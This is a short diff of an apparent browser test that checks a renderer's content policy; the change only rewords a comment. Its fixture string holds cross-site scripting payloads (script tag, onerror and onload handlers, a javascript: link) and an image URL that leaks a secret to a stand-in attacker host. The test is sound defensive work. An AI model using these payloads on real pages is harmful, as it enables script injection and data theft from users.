@@ -9,7 +9,7 @@ const { client, open } = desk
 const EVIL = `The secret of the mill. <script>window.hacked=1</script> <img src="http://attacker.test/x.png" onerror="window.hacked=2">
 <svg onload="window.hacked=3"></svg> [click](javascript:window.hacked=4) ![pixel](http://attacker.test/leak?q=secret) <style>body{display:none}</style>`
 
-/** Notes scripts that ran, requests that left, and what the content policy stopped. */
+/** Records scripts that ran, requests that left, and what the content policy blocked. */
 async function watch(page: Page) {
   const away: string[] = []
   page.on('request', (request) => {
